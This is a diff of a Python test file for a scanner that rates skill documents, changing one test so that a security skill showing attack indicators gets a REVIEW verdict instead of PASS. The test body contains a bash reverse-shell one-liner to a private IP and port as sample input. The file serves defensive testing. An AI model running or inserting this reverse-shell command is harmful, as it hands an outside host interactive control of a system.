@@ -66,10 +66,10 @@ def test_nothing_that_an_attacker_can_write_switches_a_finding_off(
     assert scanned(tmp_path, body).verdict is not Verdict.PASS
 
 
-def test_a_security_skill_may_show_what_it_does_not_do(tmp_path: Path) -> None:
+def test_what_a_security_skill_shows_is_reviewed_and_not_blocked(tmp_path: Path) -> None:
     body = "## Indicators of attack\n\n```bash\nbash -i >& /dev/tcp/10.0.0.5/4444 0>&1\n```"
 
-    assert scanned(tmp_path, body, about="Detects malware in logs.").verdict is Verdict.PASS
+    assert scanned(tmp_path, body, about="Detects malware in logs.").verdict is Verdict.REVIEW
 
 
 def test_a_security_skill_may_not_do_it(tmp_path: Path) -> None:
